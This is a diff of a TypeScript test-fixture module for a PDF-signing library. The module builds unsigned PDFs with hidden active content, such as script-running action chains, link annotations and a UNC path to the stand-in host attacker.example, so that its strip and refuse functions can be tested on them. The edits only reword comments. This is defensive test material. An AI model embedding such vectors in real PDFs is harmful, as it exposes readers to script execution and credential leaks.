@@ -1,11 +1,11 @@
-/** Unsigned files with active content in places where it is easily missed, but which `strip` and `refuse` must find. */
+/** Unsigned files with active content in locations where it is easily missed. `strip` and `refuse` must find it. */
 import type { ActiveKind } from '@countersign/pdf-sign';
 
 export interface ActiveVector {
   readonly name: string;
   readonly description: string;
   readonly kind: ActiveKind;
-  /** Entries of the catalog and of the page; objects from number 5 on. */
+  /** Additional entries of the catalog and of the page, and objects numbered from 5. */
   readonly catalog?: string;
   readonly page?: string;
   readonly objects?: readonly string[];
@@ -16,7 +16,7 @@ const SHARE = '(\\\\\\\\attacker.example\\\\share\\\\x.pdf)';
 const annotation = (entries: string): string => `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]${entries}>>]`;
 const stream = (entries: string): string => `<<${entries}/Length 0>>\nstream\n\nendstream`;
 
-/** Each action triggers the next one, and the last one runs a script. */
+/** Returns actions of which each triggers the next one. The last action runs a script. */
 function chain(length: number): string[] {
   return Array.from({ length }, (_, index) => `<</S/GoTo/D[3 0 R/Fit]/Next ${6 + index} 0 R>>`).concat(SCRIPT);
 }
@@ -140,7 +140,7 @@ export const activeVectors: readonly ActiveVector[] = [
   },
 ];
 
-/** One page, and what the vector adds. */
+/** Returns a one-page file with the additions of a vector. */
 export function activeFile({ catalog = '', page = '', objects = [] }: ActiveVector): Buffer {
   const all = [
     `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
